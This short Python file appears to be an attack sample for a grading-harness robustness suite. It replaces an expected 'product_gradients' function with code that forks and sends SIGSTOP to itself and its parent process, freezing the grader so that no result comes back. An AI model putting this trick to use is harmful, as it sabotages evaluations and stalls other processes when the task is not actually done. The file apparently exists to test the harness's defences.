# attack: stop itself, its children and its parent, so that nobody ever answers
# asset: time of others
# channel: processes, time
# beats otter: no
# expect: timed_out,not_implemented,wrong
# place: after
import os
import signal


def attack(*args):
    if os.fork() == 0:
        os.kill(os.getppid(), signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)


product_gradients = attack
